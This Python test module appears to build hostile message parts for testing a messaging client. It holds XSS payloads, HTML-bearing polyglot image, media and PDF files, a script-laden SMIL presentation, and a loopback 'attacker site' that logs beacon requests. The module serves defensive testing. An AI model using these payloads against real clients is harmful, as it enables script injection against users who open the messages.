"""What strangers put into messages to attack whoever looks at them, and a site of theirs that waits for its success.

Each spell makes itself known where it works: by a dialog, by the name of the window, by a request to the site.
"""

from __future__ import annotations

import zlib
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field

from http_site import Answers, served

from mm7zeep.messages import Part

OWNED = "owned"
"""The name of a window in which a stranger's script has run."""


@dataclass
class AttackerSite:
    """A web site on another port of this machine, which is another origin. ``hits`` are the requests that it got."""

    url: str = ""
    hits: list[str] = field(default_factory=list)
    pages: dict[str, str] = field(default_factory=dict)

    @property
    def act(self) -> str:
        """JavaScript that makes itself known in all ways."""
        return f"window.name='{OWNED}';new Image().src='{self.url}/script';fetch('{self.url}/fetch');alert('{OWNED}')"

    def spells(self) -> list[str]:
        """Markup that does something wherever it is taken for markup."""
        act, quoted = f"<script>{self.act}</script>", self.act.replace("'", "&#39;")
        return [
            f"\"><img src={self.url}/image onerror='{quoted}'>",
            f'\'><svg onload="{self.act}">',
            f"</title></textarea></pre></script></style></select>{act}",
            f"--></noscript></template><iframe src={self.url}/frame></iframe>",
            f"<link rel=stylesheet href={self.url}/style><base href={self.url}/>",
            f'<meta http-equiv=refresh content="0;url={self.url}/refresh">',
            f'<a href="javascript:{self.act}" id=content ping={self.url}/ping>x</a>',
            f'<form action={self.url}/form id=selection><button autofocus onfocus="{self.act}">',
            "{{ 7 * 7 }}{% include 'base.html' %}${7*7}",
        ]

    def spell(self) -> str:
        """All of it."""
        return " ".join(self.spells())

    def parts(self) -> tuple[Part, ...]:
        """Parts that are, or may be taken for, documents and scripts."""
        spell, act = self.spell().encode(), self.act.encode()
        html = b"<!doctype html><title>x</title><body>" + spell + b"<script>" + act + b"</script>"
        xhtml = b'<html xmlns="http://www.w3.org/1999/xhtml"><body><script>' + act + b"</script></body></html>"
        svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="%s"><image href="%s/svg"/><script>%s</script></svg>'
        xslt = b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="%s/xsl"?>' % self.url.encode()
        bodies = [
            (spell, "text/plain"),
            (html, "text/html"),
            (svg % (act, self.url.encode(), act), "image/svg+xml"),
            (gif_and_script(self.act), "image/gif"),
            (gif_and_script(self.act), "application/javascript"),
            (b"GIF89a" + html, "text/html"),
            (b"GIF89a" + html, "image/gif"),
            (b"\xff\xd8\xff\xe0" + html, "image/jpeg"),
            (png_with_text(html), "text/html"),
            (png_with_text(html), "image/png"),
            (xhtml, "application/xhtml+xml"),
            (xslt + xhtml, "text/xml"),
            (act, "text/javascript"),
            (b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj", "application/pdf"),
            (b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + html, "video/mp4"),
            (b"RIFF\x24\0\0\0WAVEfmt " + html, "audio/wav"),
            (html, "application/octet-stream"),
            (html, "application/x-shockwave-flash"),
        ]
        return tuple(
            Part(body=body, content_type=kind, content_id=f"p{n}", name=f"{n}.html")
            for n, (body, kind) in enumerate(bodies)
        )

    def smil(self) -> bytes:
        """A presentation that names strange places, and holds what no presentation should."""
        quoted = self.spell().replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
        return (
            f'<smil><head><meta http-equiv="refresh" content="0;url={self.url}/smil"/><layout>'
            f'<root-layout width="240" height="320" background-color="url({self.url}/colour)"/>'
            f'<region id="{quoted}" background-image="{self.url}/back" top="{quoted}" width="100%"/></layout></head>'
            f'<body onload="{self.act}"><script>{self.act}</script>'
            f'<par dur="300ms"><a href="javascript:{self.act}"><img src="{self.url}/picture" alt="{quoted}"/></a>'
            f'<img src="javascript:{self.act}"/><text src="p0" region="{quoted}"/><img src="p2" alt="{quoted}"/></par>'
            f'<par dur="300ms"><img src="p3"/><audio src="p15"/></par>'
            f'<par dur="300ms"><video src="p14"/><ref src="p1"/></par>'
            f'<par dur="300ms"><img src="//{self.url.partition("//")[2]}/host"/><text src="p1"/><text src="p16"/>'
            f"</par></body></smil>"
        ).encode()


def gif_and_script(act: str) -> bytes:
    """A polyglot: a GIF of 10,799 times 1 pixels that is JavaScript, too."""
    head = b"GIF89a" + b"/*" + b"\x01\x00" + b"\x80\x00\x00" + b"\x00\x00\x00\xff\xff\xff"
    picture = b",\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0"
    return head + picture + b"*/=1;" + act.encode() + b";//;"


def png_with_text(text: bytes) -> bytes:
    """A PNG of one pixel that has ``text`` in a chunk."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return len(body).to_bytes(4, "big") + kind + body + zlib.crc32(kind + body).to_bytes(4, "big")

    head = (1).to_bytes(4, "big") * 2 + b"\x08\0\0\0\0"
    chunks = (b"IHDR", head), (b"tEXt", b"Comment\0" + text), (b"IDAT", zlib.compress(b"\0\0")), (b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunk(kind, body) for kind, body in chunks)


@contextmanager
def attacking() -> Iterator[AttackerSite]:
    """The site on a free port of loopback; it answers everything, and lets everybody read it."""

    class Page(Answers):
        def do_GET(self) -> None:
            if self.path not in site.pages:
                site.hits.append(self.path)
            self.answer(
                200,
                site.pages.get(self.path, "").encode(),
                Content_Type="text/html; charset=utf-8",
                Access_Control_Allow_Origin="*",
            )

        do_POST = do_GET

    with served(Page) as url:
        site = AttackerSite(url)
        yield site
